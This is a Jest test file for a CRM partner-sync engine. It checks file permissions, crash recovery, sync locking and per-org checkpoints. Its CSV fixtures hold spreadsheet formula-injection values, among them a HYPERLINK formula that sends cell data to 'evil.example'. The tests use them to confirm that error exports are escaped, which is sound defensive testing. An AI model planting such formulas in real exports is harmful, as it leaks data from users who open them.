// What a sync leaves on disk and whom it lets in: owner-only files, neutral errors.csv, retries in run.log, one
// sync per checkpoint at a time, and a checkpoint that belongs to one org.
import { mkdtempSync, readFileSync, rmSync, statSync, writeFileSync, readdirSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import { startLocalOrg, type LocalOrg } from '../../src/localorg/index';
import { OrgClient } from '../../src/org/client';
import { connectionFor } from '../../src/org/connection';
import { runSync, type SyncOptions } from '../../src/sync/engine';
import type { SyncResult } from '../../src/sync/types';
import { loadPartnerFiles, loadReferralFiles } from '../../src/sync/fromConfig';
import { defaultRetryPolicy } from '../../src/org/retry';
import { CheckpointStore } from '../../src/sync/state';
import { localConfigSchema } from '../../src/config/localConfig';

jest.setTimeout(60_000);
let org: LocalOrg;
let dir: string;

beforeEach(async () => {
  org = await startLocalOrg();
  dir = mkdtempSync(path.join(os.tmpdir(), 'pl-runfiles-'));
  org.store.insert('Partner__c', { Name: 'Acme Partners', External_Id__c: 'acme', Domain__c: 'acmepartners.com', Status__c: 'Active', Sharing_Level__c: 'Overlapping records' });
  const rows = ['id,company,website,population'];
  for (let i = 0; i < 30; i++) {
    org.store.insert('Account', { Name: `Company ${i}`, Website: `company${i}.com`, Type: 'Customer' });
    rows.push(`A${i},Company ${i},company${i}.com,Customer`);
  }
  // rows the sync rejects, with ids a spreadsheet would run as formulas
  rows.push('"=HYPERLINK(""http://evil.example/?""&A1)",Evil,,Customer', '@SUM(1+1),Evil 2,,NotAPopulation', '-2+3,Evil 3,,Customer');
  writeFileSync(path.join(dir, 'acme.csv'), rows.join('\n'));
  // a referral whose id a spreadsheet would run, and whose Lead the org refuses (website past 255 characters)
  writeFileSync(
    path.join(dir, 'referrals.csv'),
    ['referral_id,company,email,last_name,referral_date,website', `"=HYPERLINK(""http://evil.example/?""&A1)",Evil Inc,jo@evilinc.com,Jo,2026-11-02,evilinc.com/${'a'.repeat(300)}`].join('\n'),
  );
});
afterEach(async () => {
  await org.stop();
  rmSync(dir, { recursive: true, force: true });
});

function sync(store = new CheckpointStore(path.join(dir, 'cp'), `${org.orgId}-${org.username}`), client = new OrgClient(connectionFor(org.instanceUrl, org.accessToken), { retry: defaultRetryPolicy({ baseMs: 1, maxMs: 2, attempts: 8 }) }), extra: Partial<SyncOptions> = {}): Promise<SyncResult> {
  const config = { ...localConfigSchema.parse({ partnerFiles: [{ partner: 'acme', file: 'acme.csv' }] }), baseDir: dir };
  return runSync({ client, store, runsDir: path.join(dir, 'runs'), loadPartners: () => loadPartnerFiles(config), loadReferrals: () => loadReferralFiles([{ partner: 'acme', file: 'referrals.csv' }], dir), overlapSeconds: 0, ...extra });
}

const mode = (file: string): number => statSync(file).mode & 0o777;

/** The run record and its error rows as the org holds them, with this test's folder made neutral. */
function runRecord(): unknown {
  const runs = org.store.query('SELECT Mode__c, Status__c, Records_Read__c, Records_Matched__c, Records_Created__c, Records_Updated__c, Records_Failed__c, API_Calls_Used__c FROM Partner_Sync_Run__c').records;
  const errors = org.store.query('SELECT External_Id__c, Object_Name__c, Record_Key__c, Error_Code__c, Message__c FROM Partner_Sync_Error__c ORDER BY External_Id__c').records;
  const neutral = (v: unknown): unknown => (typeof v === 'string' ? v.replaceAll(dir, '<dir>').replace(/^run-[\w-]+:/, 'run:') : v);
  return { runs: runs.map(({ attributes: _a, ...r }) => r), errors: errors.map(({ attributes: _a, Id: _i, ...e }) => Object.fromEntries(Object.entries(e).map(([k, v]) => [k, neutral(v)]))) };
}

describe('the files a sync writes', () => {
  it('are readable by their owner only: state.json, run.log, errors.csv and their folders', async () => {
    const result = await sync();
    expect(result.errorsCsv).toBeDefined();
    const cp = readdirSync(path.join(dir, 'cp'))[0]!;
    expect(mode(path.join(dir, 'cp', cp))).toBe(0o700);
    expect(mode(path.join(dir, 'cp', cp, 'state.json'))).toBe(0o600);
    expect(mode(result.runLog)).toBe(0o600);
    expect(mode(path.dirname(result.runLog))).toBe(0o700);
    expect(mode(result.errorsCsv!)).toBe(0o600);
  });

  it('errors.csv shows formula cells as text: every cell that would run starts with an apostrophe', async () => {
    const result = await sync();
    const rows = parse(readFileSync(result.errorsCsv!, 'utf8'), { columns: true }) as Record<string, string>[];
    const keys = rows.map((r) => r.key ?? '');
    expect(keys.some((k) => k.includes('HYPERLINK'))).toBe(true);
    for (const row of rows) for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@]/);
    expect(keys).toContain(`'=HYPERLINK("http://evil.example/?"&A1)`);
  });

  it('run.log records the retries of a run under injected faults', async () => {
    org.faults.set({ rate: 0.3, kinds: ['http503'], seed: 7 });
    const result = await sync();
    org.faults.clear();
    expect(readFileSync(result.runLog, 'utf8')).toMatch(/retry 1 of (GET|POST|PATCH) \/\S+: SERVER_UNAVAILABLE/);
  });
});

describe('a run resumed after a crash records the whole run', () => {
  // batches here: the overlaps, then the referral Lead (refused: website too long); crash after each
  it.each([1, 2])('crash after batch %i, then resume: the same run record, error rows and totals as an uninterrupted run', async (crashAfterBatch) => {
    const clean = await sync();
    expect(clean.status).toBe('Partial');
    const uninterrupted = runRecord() as { runs: Record<string, unknown>[]; errors: unknown[] };
    expect(uninterrupted.errors).toHaveLength(4);
    expect(uninterrupted.runs).toEqual([expect.objectContaining({ Status__c: 'Partial', Records_Failed__c: 4, Records_Created__c: 30 })]);

    // the same input on a fresh org, crashing mid-write
    await org.stop();
    rmSync(path.join(dir, 'cp'), { recursive: true });
    org = await startLocalOrg();
    org.store.insert('Partner__c', { Name: 'Acme Partners', External_Id__c: 'acme', Domain__c: 'acmepartners.com', Status__c: 'Active', Sharing_Level__c: 'Overlapping records' });
    for (let i = 0; i < 30; i++) org.store.insert('Account', { Name: `Company ${i}`, Website: `company${i}.com`, Type: 'Customer' });
    await expect(sync(undefined, undefined, { crashAfterBatch })).rejects.toThrow(/crash hook/);
    expect(org.store.query('SELECT COUNT() FROM Partner_Sync_Run__c').totalSize).toBe(0);
    const resumed = await sync();
    expect(resumed.mode).toBe('Resume');
    expect(resumed).toMatchObject({ status: 'Partial', counts: clean.counts, referrals: { flagged: clean.referrals.flagged, created: clean.referrals.created } });
    expect(resumed.partnerSources).toEqual(clean.partnerSources);
    const record = runRecord() as { runs: Record<string, unknown>[]; errors: unknown[] };
    expect(record.errors).toEqual(uninterrupted.errors);
    // every count but the mode, and the API calls of both attempts (at least the uninterrupted run's)
    const { Mode__c: mode1, API_Calls_Used__c: calls1, ...rest1 } = uninterrupted.runs[0]!;
    const { Mode__c: mode2, API_Calls_Used__c: calls2, ...rest2 } = record.runs[0]!;
    expect([mode1, mode2]).toEqual(['Full', 'Resume']);
    expect(rest2).toEqual(rest1);
    expect(Number(calls2)).toBeGreaterThanOrEqual(Number(calls1));
    expect(readFileSync(resumed.errorsCsv!, 'utf8').replaceAll(dir, '')).toBe(readFileSync(clean.errorsCsv!, 'utf8').replaceAll(dir, ''));
  });
});

describe('one sync per checkpoint', () => {
  it('refuses a second sync while the first runs, naming its pid and start time; then runs', async () => {
    const store = new CheckpointStore(path.join(dir, 'cp'), `${org.orgId}-${org.username}`);
    const release = store.lock(new Date('2026-12-05T10:00:00Z'));
    await expect(sync()).rejects.toMatchObject({ name: 'SyncLocked', message: expect.stringContaining(`process ${process.pid} on ${os.hostname()}, started 2026-12-05T10:00:00.000Z`) });
    expect(org.store.query('SELECT COUNT() FROM Partner_Overlap__c').totalSize).toBe(0);
    release();
    expect((await sync()).counts.created).toBeGreaterThan(0);
  });

  it('takes over a lock whose process is gone', async () => {
    const store = new CheckpointStore(path.join(dir, 'cp'), `${org.orgId}-${org.username}`);
    store.lock()();
    writeFileSync(path.join(store.dir, 'sync.lock'), JSON.stringify({ pid: 2 ** 22 + 12345, host: os.hostname(), startedAt: '2026-12-01T00:00:00Z' }));
    expect((await sync(store)).counts.created).toBeGreaterThan(0);
  });
});

describe('a checkpoint belongs to one org', () => {
  it('a fresh org on the same port gets a full sync, not the other org checkpoint', async () => {
    const first = await sync();
    expect(first.mode).toBe('Full');
    const { port } = new URL(org.instanceUrl);
    await org.stop();
    org = await startLocalOrg({ port: Number(port) });
    org.store.insert('Partner__c', { Name: 'Acme Partners', External_Id__c: 'acme', Domain__c: 'acmepartners.com', Status__c: 'Active', Sharing_Level__c: 'Overlapping records' });
    for (let i = 0; i < 30; i++) org.store.insert('Account', { Name: `Company ${i}`, Website: `company${i}.com`, Type: 'Customer' });
    const second = await sync();
    expect(second.mode).toBe('Full');
    expect(org.store.query('SELECT COUNT() FROM Partner_Overlap__c').totalSize).toBe(first.counts.created);
  });

  it('refuses a checkpoint folder written for another org', async () => {
    await sync();
    const [folder] = readdirSync(path.join(dir, 'cp'));
    const wrong = new CheckpointStore(path.join(dir, 'cp'), 'other-org');
    Object.defineProperty(wrong, 'dir', { value: path.join(dir, 'cp', folder!) });
    expect(() => wrong.loadState()).toThrow(expect.objectContaining({ name: 'CheckpointOtherOrg' }));
  });
});
